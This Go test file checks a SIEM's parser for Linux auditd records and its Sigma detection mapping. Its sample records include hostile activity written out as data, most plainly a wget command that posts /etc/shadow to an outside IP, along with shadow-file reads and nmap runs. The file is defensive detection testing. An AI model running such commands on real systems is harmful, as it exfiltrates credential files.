package parse

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.yaml.in/yaml/v3"

	"github.com/tocsin-siem/tocsin/schemas"
)

// auditCase is an audit record and what tocsin reads from it.
type auditCase struct {
	name, line                       string
	code, action, category, typ      string
	outcome, reason                  string
	userID, userName                 string
	target, targetID, group, groupID string
	exe, comm, cmd, file, rule, item string
	srcIP, srcDomain, host           string
	pid                              int
	stamp                            time.Time
	labels                           map[string]string
}

// The records below were written for these tests in the shapes the Red Hat
// Security Guide ("Understanding Audit Log Files") and the linux-audit
// field and message dictionaries document; the values are made up.
// ../shared/data holds no audit records.
var auditCases = []auditCase{
	{name: "syscall", line: `type=SYSCALL msg=audit(1767261600.250:8812): arch=c000003e syscall=257 success=no exit=-13 a0=ffffff9c a1=7ffd2b1c a2=0 a3=0 items=1 ppid=4100 pid=4122 auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts1 ses=9 comm="cat" exe="/usr/bin/cat" subj=unconfined key="shadow_read"`,
		code: "SYSCALL", action: "syscall", category: "process", typ: "info", outcome: "failure",
		userID: "1001", exe: "/usr/bin/cat", comm: "cat", rule: "shadow_read", pid: 4122,
		stamp:  time.Date(2026, 1, 1, 10, 0, 0, 250e6, time.UTC),
		labels: map[string]string{"sequence": "8812", "syscall": "257", "exit": "-13", "auid": "1001", "ses": "9", "tty": "pts1"}},
	{name: "syscall without login uid", line: `type=SYSCALL msg=audit(1767261600.251:8813): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=1 pid=700 auid=4294967295 uid=0 gid=0 ses=4294967295 comm="cron" exe="/usr/sbin/cron" key=(null)`,
		code: "SYSCALL", action: "syscall", category: "process", typ: "info", outcome: "success",
		userID: "0", exe: "/usr/sbin/cron", comm: "cron", pid: 700, stamp: time.Date(2026, 1, 1, 10, 0, 0, 251e6, time.UTC)},
	{name: "syscall enriched", line: "type=SYSCALL msg=audit(1767261600.252:8814): arch=c000003e syscall=59 success=yes exit=0 ppid=4100 pid=4130 auid=1001 uid=0 comm=\"nmap\" exe=\"/usr/bin/nmap\" key=\"network_connect_4\"\x1dARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\"",
		code: "SYSCALL", action: "syscall", category: "process", typ: "info", outcome: "success",
		userID: "1001", userName: "alice", exe: "/usr/bin/nmap", comm: "nmap", rule: "network_connect_4", pid: 4130,
		stamp: time.Date(2026, 1, 1, 10, 0, 0, 252e6, time.UTC), labels: map[string]string{"SYSCALL": "execve", "ARCH": "x86_64"}},
	{name: "syscall enriched as rsyslog escapes it", line: `type=SYSCALL msg=audit(1767261600.252:8814): arch=c000003e syscall=59 success=yes pid=4130 auid=1001 uid=0 comm="nmap" exe="/usr/bin/nmap" key="network_connect_4"#035ARCH=x86_64 SYSCALL=execve AUID="alice" UID="root"`,
		code: "SYSCALL", action: "syscall", category: "process", typ: "info", outcome: "success",
		userID: "1001", userName: "alice", exe: "/usr/bin/nmap", comm: "nmap", rule: "network_connect_4", pid: 4130,
		stamp: time.Date(2026, 1, 1, 10, 0, 0, 252e6, time.UTC)},
	{name: "execve", line: `type=EXECVE msg=audit(1767261601.100:8820): argc=3 a0="wget" a1="--post-file=/etc/shadow" a2=687474703A2F2F3230332E302E3131332E392F7570`,
		code: "EXECVE", action: "execve", category: "process", typ: "start",
		cmd: "wget --post-file=/etc/shadow http://203.0.113.9/up", stamp: time.Date(2026, 1, 1, 10, 0, 1, 100e6, time.UTC),
		labels: map[string]string{"a0": "wget", "a1": "--post-file=/etc/shadow", "a2": "http://203.0.113.9/up", "argc": "3"}},
	{name: "execve long argument", line: `type=EXECVE msg=audit(1767261601.101:8821): argc=2 a0="echo" a1_len=10 a1[0]=68656C6C6F a1[1]=776F726C64`,
		code: "EXECVE", action: "execve", category: "process", typ: "start", cmd: "echo helloworld",
		stamp: time.Date(2026, 1, 1, 10, 0, 1, 101e6, time.UTC), labels: map[string]string{"a1": "helloworld"}},
	{name: "path", line: `type=PATH msg=audit(1767261600.250:8812): item=0 name="/etc/shadow" inode=409248 dev=fd:00 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
		code: "PATH", file: "/etc/shadow", stamp: time.Date(2026, 1, 1, 10, 0, 0, 250e6, time.UTC),
		labels: map[string]string{"nametype": "NORMAL", "ouid": "0", "item": "0"}},
	{name: "proctitle", line: `type=PROCTITLE msg=audit(1767261600.250:8812): proctitle=636174002F6574632F736861646F77`,
		code: "PROCTITLE", cmd: "cat /etc/shadow", stamp: time.Date(2026, 1, 1, 10, 0, 0, 250e6, time.UTC)},
	{name: "cwd", line: `type=CWD msg=audit(1767261600.250:8812): cwd="/home/alice"`,
		code: "CWD", stamp: time.Date(2026, 1, 1, 10, 0, 0, 250e6, time.UTC), labels: map[string]string{"cwd": "/home/alice"}},
	{name: "ssh authentication failure", line: `type=USER_AUTH msg=audit(1767261700.456:8830): pid=5200 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:authentication grantors=? acct="admin" exe="/usr/sbin/sshd" hostname=198.51.100.23 addr=198.51.100.23 terminal=ssh res=failed'`,
		code: "USER_AUTH", action: "user_auth", category: "authentication", typ: "info", outcome: "failure",
		userName: "admin", exe: "/usr/sbin/sshd", srcIP: "198.51.100.23", pid: 5200,
		stamp: time.Date(2026, 1, 1, 10, 1, 40, 456e6, time.UTC), labels: map[string]string{"op": "PAM:authentication", "terminal": "ssh", "grantors": "?"}},
	{name: "ssh login with a host name", line: `type=USER_LOGIN msg=audit(1767261701.000:8831): pid=5201 uid=0 auid=1001 ses=12 msg='op=login id=1001 exe="/usr/sbin/sshd" hostname=Client7.Example.NET addr=2001:db8::7 terminal=/dev/pts/3 res=success'` + "\x1dUID=\"root\" AUID=\"alice\" ID=\"alice\"",
		code: "USER_LOGIN", action: "user_login", category: "authentication", typ: "start", outcome: "success",
		userID: "1001", userName: "alice", exe: "/usr/sbin/sshd", srcIP: "2001:db8::7", srcDomain: "client7.example.net", pid: 5201,
		stamp: time.Date(2026, 1, 1, 10, 1, 41, 0, time.UTC)},
	{name: "su session", line: `type=USER_START msg=audit(1767261702.000:8832): pid=5300 uid=1001 auid=1001 ses=12 msg='op=PAM:session_open grantors=pam_keyinit,pam_limits,pam_unix acct="root" exe="/usr/bin/su" hostname=? addr=? terminal=pts/3 res=success'`,
		code: "USER_START", action: "session_start", category: "session", typ: "start", outcome: "success",
		userID: "1001", target: "root", exe: "/usr/bin/su", pid: 5300, stamp: time.Date(2026, 1, 1, 10, 1, 42, 0, time.UTC),
		labels: map[string]string{"hostname": ""}},
	{name: "sudo command", line: `type=USER_CMD msg=audit(1767261703.000:8833): pid=5400 uid=1001 auid=1001 ses=12 msg='cwd="/home/alice" cmd=636174202F6574632F736861646F77 exe="/usr/bin/sudo" terminal=pts/3 res=success'`,
		code: "USER_CMD", action: "user_cmd", category: "process", typ: "start", outcome: "success",
		userID: "1001", exe: "/usr/bin/sudo", cmd: "cat /etc/shadow", pid: 5400, stamp: time.Date(2026, 1, 1, 10, 1, 43, 0, time.UTC)},
	{name: "user added", line: "type=ADD_USER msg=audit(1767261704.000:8840): pid=5500 uid=0 auid=1001 ses=12 msg='op=add-user acct=\"backup2\" exe=\"/usr/sbin/useradd\" hostname=web1 addr=? terminal=pts/3 res=success'\x1dUID=\"root\" AUID=\"alice\"",
		code: "ADD_USER", action: "user_created", category: "iam", typ: "creation", outcome: "success",
		userID: "1001", userName: "alice", target: "backup2", exe: "/usr/sbin/useradd", pid: 5500,
		stamp: time.Date(2026, 1, 1, 10, 1, 44, 0, time.UTC), labels: map[string]string{"op": "add-user", "hostname": "web1"}},
	{name: "user added, older wording", line: `type=ADD_USER msg=audit(1767261704.500:8841): pid=5501 uid=0 auid=1001 ses=12 msg='op=adding user id=1003 exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/3 res=success'`,
		code: "ADD_USER", action: "user_created", category: "iam", typ: "creation", outcome: "success",
		userID: "1001", targetID: "1003", exe: "/usr/sbin/useradd", pid: 5501,
		stamp: time.Date(2026, 1, 1, 10, 1, 44, 500e6, time.UTC), labels: map[string]string{"op": "adding user"}},
	{name: "group added", line: `type=ADD_GROUP msg=audit(1767261705.000:8842): pid=5502 uid=0 auid=1001 ses=12 msg='op=add-group acct="ops" id=1010 exe="/usr/sbin/groupadd" hostname=web1 addr=? terminal=pts/3 res=success'`,
		code: "ADD_GROUP", action: "group_created", category: "iam", typ: "creation", outcome: "success",
		userID: "1001", group: "ops", groupID: "1010", exe: "/usr/sbin/groupadd", pid: 5502,
		stamp: time.Date(2026, 1, 1, 10, 1, 45, 0, time.UTC)},
	{name: "user deleted", line: `type=DEL_USER msg=audit(1767261706.000:8843): pid=5503 uid=0 auid=1001 ses=12 msg='op=delete-user acct="backup2" exe="/usr/sbin/userdel" hostname=web1 addr=? terminal=pts/3 res=success'`,
		code: "DEL_USER", action: "user_deleted", category: "iam", typ: "deletion", outcome: "success",
		userID: "1001", target: "backup2", exe: "/usr/sbin/userdel", pid: 5503, stamp: time.Date(2026, 1, 1, 10, 1, 46, 0, time.UTC)},
	{name: "password changed", line: `type=USER_CHAUTHTOK msg=audit(1767261707.000:8844): pid=5504 uid=0 auid=1001 ses=12 msg='op=PAM:chauthtok grantors=pam_unix acct="bob" exe="/usr/bin/passwd" hostname=web1 addr=? terminal=pts/3 res=success'`,
		code: "USER_CHAUTHTOK", action: "password_changed", category: "iam", typ: "change", outcome: "success",
		userID: "1001", target: "bob", exe: "/usr/bin/passwd", pid: 5504, stamp: time.Date(2026, 1, 1, 10, 1, 47, 0, time.UTC)},
	{name: "member added", line: `type=USER_MGMT msg=audit(1767261708.000:8845): pid=5505 uid=0 auid=1001 ses=12 msg='op=add-user-to-group grp="sudo" acct="mallory" exe="/usr/sbin/usermod" hostname=web1 addr=? terminal=pts/3 res=success'`,
		code: "USER_MGMT", action: "group_member_added", category: "iam", typ: "change", outcome: "success",
		userID: "1001", target: "mallory", group: "sudo", exe: "/usr/sbin/usermod", pid: 5505, stamp: time.Date(2026, 1, 1, 10, 1, 48, 0, time.UTC)},
	{name: "audit rule added", line: `type=CONFIG_CHANGE msg=audit(1767261709.000:8846): auid=1001 ses=12 op=add_rule key="sshd_config" list=4 res=1`,
		code: "CONFIG_CHANGE", action: "config_changed", category: "configuration", typ: "change", outcome: "success",
		userID: "1001", rule: "sshd_config", item: "add_rule", stamp: time.Date(2026, 1, 1, 10, 1, 49, 0, time.UTC)},
	{name: "auditing switched off", line: `type=CONFIG_CHANGE msg=audit(1767261709.500:8847): audit_enabled=0 old=1 auid=1001 ses=12 res=1`,
		code: "CONFIG_CHANGE", action: "config_changed", category: "configuration", typ: "change", outcome: "success",
		userID: "1001", item: "audit_enabled", stamp: time.Date(2026, 1, 1, 10, 1, 49, 500e6, time.UTC)},
	{name: "selinux denial", line: `type=AVC msg=audit(1767261710.000:8850): avc:  denied  { read } for  pid=6100 comm="httpd" name="shadow" dev="dm-0" ino=409248 scontext=system_u:system_r:httpd_t:s0 tcontext=system_u:object_r:shadow_t:s0 tclass=file permissive=0`,
		code: "AVC", action: "mac_denied", category: "file", typ: "denied", outcome: "failure", reason: "read",
		comm: "httpd", pid: 6100, stamp: time.Date(2026, 1, 1, 10, 1, 50, 0, time.UTC),
		labels: map[string]string{"tclass": "file", "scontext": "system_u:system_r:httpd_t:s0"}},
	{name: "apparmor denial as the kernel prints it", line: `audit: type=1400 audit(1767261711.000:8851): apparmor="DENIED" operation="open" profile="/usr/sbin/cupsd" name="/etc/shadow" pid=812 comm="cupsd" requested_mask="r" denied_mask="r" fsuid=0 ouid=0`,
		code: "AVC", action: "mac_denied", category: "file", typ: "denied", outcome: "failure", reason: "r",
		comm: "cupsd", file: "/etc/shadow", pid: 812, stamp: time.Date(2026, 1, 1, 10, 1, 51, 0, time.UTC),
		labels: map[string]string{"profile": "/usr/sbin/cupsd", "operation": "open"}},
	{name: "crash", line: `type=ANOM_ABEND msg=audit(1767261712.000:8852): auid=1001 uid=1001 gid=1001 ses=12 pid=6200 comm="exploit" exe="/tmp/exploit" sig=11 res=1`,
		code: "ANOM_ABEND", action: "anomaly", category: "intrusion_detection", typ: "info", reason: "abnormal end",
		userID: "1001", exe: "/tmp/exploit", comm: "exploit", pid: 6200, stamp: time.Date(2026, 1, 1, 10, 1, 52, 0, time.UTC),
		labels: map[string]string{"sig": "11"}},
	{name: "promiscuous", line: `type=ANOM_PROMISCUOUS msg=audit(1767261713.000:8853): dev=eth0 prom=256 old_prom=0 auid=1001 uid=0 gid=0 ses=12`,
		code: "ANOM_PROMISCUOUS", action: "anomaly", category: "intrusion_detection", typ: "info", reason: "promiscuous mode",
		userID: "1001", stamp: time.Date(2026, 1, 1, 10, 1, 53, 0, time.UTC), labels: map[string]string{"dev": "eth0"}},
	{name: "kernel number for a user-space type", line: `audit: type=1112 audit(1767261714.000:8854): pid=5201 uid=0 auid=1001 ses=12 msg='op=login id=1001 exe="/usr/sbin/sshd" hostname=? addr=192.0.2.50 terminal=/dev/pts/3 res=success'`,
		code: "USER_LOGIN", action: "user_login", category: "authentication", typ: "start", outcome: "success",
		userID: "1001", exe: "/usr/sbin/sshd", srcIP: "192.0.2.50", pid: 5201, stamp: time.Date(2026, 1, 1, 10, 1, 54, 0, time.UTC)},
	{name: "audisp syslog plugin", line: `Jan  1 10:02:00 collector audispd: node=web1 type=USER_LOGIN msg=audit(1767261720.000:8860): pid=5601 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.66 terminal=sshd res=failed'`,
		code: "USER_LOGIN", action: "user_login", category: "authentication", typ: "start", outcome: "failure",
		userName: "root", exe: "/usr/sbin/sshd", srcIP: "203.0.113.66", pid: 5601, host: "web1",
		stamp: time.Date(2026, 1, 1, 10, 2, 0, 0, time.UTC)},
	{name: "audisp-syslog", line: `<86>Jan  1 10:02:01 web1 audisp-syslog: type=USER_ACCT msg=audit(1767261721.000:8861): pid=5602 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:accounting grantors=pam_unix acct="deploy" exe="/usr/sbin/cron" hostname=? addr=? terminal=cron res=success'`,
		code: "USER_ACCT", action: "user_acct", category: "authentication", typ: "info", outcome: "success",
		userName: "deploy", exe: "/usr/sbin/cron", pid: 5602, host: "web1", stamp: time.Date(2026, 1, 1, 10, 2, 1, 0, time.UTC)},
	{name: "journald", line: `Jan  1 10:02:02 web1 audit[5603]: USER_END pid=5603 uid=0 auid=1001 ses=12 msg='op=PAM:session_close grantors=pam_unix acct="alice" exe="/usr/sbin/sshd" hostname=198.51.100.23 addr=198.51.100.23 terminal=ssh res=success'`,
		code: "USER_END", action: "session_end", category: "session", typ: "end", outcome: "success",
		userID: "1001", userName: "alice", exe: "/usr/sbin/sshd", srcIP: "198.51.100.23", pid: 5603, host: "web1",
		stamp: time.Date(2026, 1, 1, 10, 2, 2, 0, time.UTC)},
	{name: "audit.log line forwarded by imfile", line: `Jan  1 10:02:03 web1 type=CRED_ACQ msg=audit(1767261723.000:8862): pid=5604 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:setcred grantors=pam_unix acct="alice" exe="/usr/sbin/sshd" hostname=198.51.100.23 addr=198.51.100.23 terminal=ssh res=success'`,
		code: "CRED_ACQ", action: "cred_acquire", category: "authentication", typ: "info", outcome: "success",
		userName: "alice", exe: "/usr/sbin/sshd", srcIP: "198.51.100.23", pid: 5604, host: "web1",
		stamp: time.Date(2026, 1, 1, 10, 2, 3, 0, time.UTC)},
}

func TestAuditd(t *testing.T) {
	p := New(Options{})
	for _, c := range auditCases {
		t.Run(c.name, func(t *testing.T) {
			var ev schemas.Event
			require.NoError(t, p.Parse(c.line, testReceived, &ev))
			e := ev.Event
			require.Equal(t, DatasetAuditd, e.Dataset)
			require.Equal(t, c.code, e.Code)
			require.Equal(t, c.action, e.Action)
			require.Equal(t, c.category, e.Category)
			require.Equal(t, c.typ, e.Type)
			require.Equal(t, c.outcome, e.Outcome)
			require.Equal(t, c.reason, e.Reason)
			require.Equal(t, c.userID, ev.User.ID, "user.id")
			require.Equal(t, c.userName, ev.User.Name, "user.name")
			require.Equal(t, c.target, ev.User.Target.Name, "user.target.name")
			require.Equal(t, c.targetID, ev.User.Target.ID, "user.target.id")
			require.Equal(t, c.group, ev.Group.Name)
			require.Equal(t, c.groupID, ev.Group.ID)
			require.Equal(t, c.exe, ev.Process.Executable)
			require.Equal(t, c.cmd, ev.Process.CommandLine)
			require.Equal(t, c.file, ev.File.Path)
			require.Equal(t, c.rule, ev.Rule.Name)
			require.Equal(t, c.item, ev.Change.Item)
			require.Equal(t, c.srcIP, ev.Source.IP)
			require.Equal(t, c.srcDomain, ev.Source.Domain)
			require.Equal(t, c.pid, ev.Process.PID)
			require.Equal(t, c.host, ev.Host.Name)
			require.True(t, c.stamp.Equal(ev.Timestamp), "timestamp %s, want %s", ev.Timestamp, c.stamp)
			if c.comm != "" {
				require.Equal(t, c.comm, ev.Process.Name)
			}
			for k, v := range c.labels {
				got, ok := ev.Labels[k]
				if v == "" {
					require.False(t, ok, "label %s should be absent", k)
					continue
				}
				require.True(t, ok, "label %s missing from %v", k, ev.Labels)
				require.Equal(t, v, got, "label %s", k)
			}
			require.Equal(t, "Linux", ev.Observer.Vendor)
		})
	}
}

func TestAuditdMalformed(t *testing.T) {
	p := New(Options{})
	for _, line := range []string{
		`type=SYSCALL msg=audit(1767261600:8812): arch=c000003e`,
		`type=SYSCALL msg=audit(1767261600.25:8812): arch=c000003e`,
		`type=SYSCALL msg=audit(1767261600.250:): arch=c000003e`,
		`type=SYSCALL msg=audit(1767261600.250:8812 arch=c000003e`,
		`Jan  1 10:02:00 web1 audispd: node=web1`,
		`Jan  1 10:02:00 web1 audispd: node=web1 type=SYSCALL arch=c000003e`,
		`Jan  1 10:02:00 web1 audit[1]: backlog limit exceeded`,
	} {
		var ev schemas.Event
		err := p.Parse(line, testReceived, &ev)
		require.Equal(t, ReasonBadAuditd, reasonOf(t, err), "line %q", line)
		require.Equal(t, DatasetAuditd, ev.Event.Dataset)
	}
}

// The record's own time (msg=audit(SECONDS...)) wins over a syslog
// header's, which a relay may have set.
func TestAuditdKeepsRecordTime(t *testing.T) {
	line := `Jan  1 11:00:00 collector audispd: node=web1 type=USER_LOGIN msg=audit(1767261720.000:8860): pid=1 uid=0 auid=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=? terminal=sshd res=failed'`
	ev := mustParse(t, line)
	require.Equal(t, time.Date(2026, 1, 1, 10, 2, 0, 0, time.UTC), ev.Timestamp)
	require.Equal(t, "8860", ev.Labels["sequence"])
}

// A listener told to expect auditd reads header-less records, and lines
// that are no audit record are failures, not silently other formats.
func TestAuditdForced(t *testing.T) {
	p := New(Options{Format: "auditd"})
	var ev schemas.Event
	require.NoError(t, p.Parse(auditCases[0].line, testReceived, &ev))
	require.Equal(t, "SYSCALL", ev.Event.Code)
	ev.Reset()
	require.Equal(t, ReasonBadAuditd, reasonOf(t, p.Parse("hello world", testReceived, &ev)))
}

// The Sigma rules for auditd in the shared data set name the record's
// fields type, exe, key, a0 and a1; each rule's detection must match a
// record it is written for, through tocsin's mapping of those fields.
func TestAuditdSigmaFields(t *testing.T) {
	dir := sharedData(t, "sigma/rules/linux/auditd")
	records := map[string]string{
		"lnx_auditd_create_account.yml":           `type=SYSCALL msg=audit(1767261600.250:1): arch=c000003e syscall=59 success=yes pid=2 auid=1001 uid=0 comm="useradd" exe="/usr/sbin/useradd" key="user_mgmt"`,
		"lnx_auditd_network_service_scanning.yml": auditCases[2].line,
		"lnx_auditd_data_exfil_wget.yml":          auditCases[4].line,
	}
	decoy := `type=SYSCALL msg=audit(1767261600.250:1): arch=c000003e syscall=59 success=yes pid=2 auid=1001 uid=0 comm="ls" exe="/usr/bin/ls" key="other"`
	field := func(ev *schemas.Event, name string) string {
		switch name {
		case "type":
			return ev.Event.Code
		case "exe":
			return ev.Process.Executable
		case "key":
			return ev.Rule.Name
		}
		return ev.Labels[name]
	}
	n := 0
	err := filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		line, ok := records[d.Name()]
		require.True(t, ok, "no record written for rule %s", d.Name())
		b, err := os.ReadFile(path)
		require.NoError(t, err)
		var rule struct {
			Detection map[string]any `yaml:"detection"`
		}
		require.NoError(t, yaml.Unmarshal(b, &rule))
		cond, _ := rule.Detection["condition"].(string)
		match := func(ev *schemas.Event) bool {
			any1 := false
			for name, sel := range rule.Detection {
				if name == "condition" {
					continue
				}
				ok := sigmaSelectionMatches(t, sel.(map[string]any), func(f string) string { return field(ev, f) })
				if cond == "selection" && name == "selection" {
					return ok
				}
				any1 = any1 || ok
			}
			require.Equal(t, "1 of selection_*", cond, "rule %s", d.Name())
			return any1
		}
		ev := mustParse(t, line)
		require.True(t, match(&ev), "rule %s does not match %q", d.Name(), line)
		other := mustParse(t, decoy)
		require.False(t, match(&other), "rule %s matches the decoy", d.Name())
		n++
		return nil
	})
	require.NoError(t, err)
	require.Equal(t, len(records), n)
}

// sigmaSelectionMatches evaluates one Sigma selection of FIELD[|startswith
// |endswith]: VALUE or [VALUES], the forms the auditd rules use.
func sigmaSelectionMatches(t *testing.T, sel map[string]any, get func(string) string) bool {
	for key, want := range sel {
		name, mod, _ := strings.Cut(key, "|")
		var values []string
		switch v := want.(type) {
		case string:
			values = []string{v}
		case []any:
			for _, x := range v {
				values = append(values, x.(string))
			}
		default:
			t.Fatalf("unexpected value %v for %s", want, key)
		}
		got := get(name)
		ok := false
		for _, v := range values {
			switch mod {
			case "":
				ok = ok || got == v
			case "startswith":
				ok = ok || strings.HasPrefix(got, v)
			case "endswith":
				ok = ok || strings.HasSuffix(got, v)
			default:
				t.Fatalf("unexpected modifier %s", mod)
			}
		}
		if !ok {
			return false
		}
	}
	return true
}

func BenchmarkParseAuditd(b *testing.B) {
	benchLine(b, auditCases[9].line)
}

func BenchmarkParseAuditdSyscall(b *testing.B) {
	benchLine(b, auditCases[0].line)
}
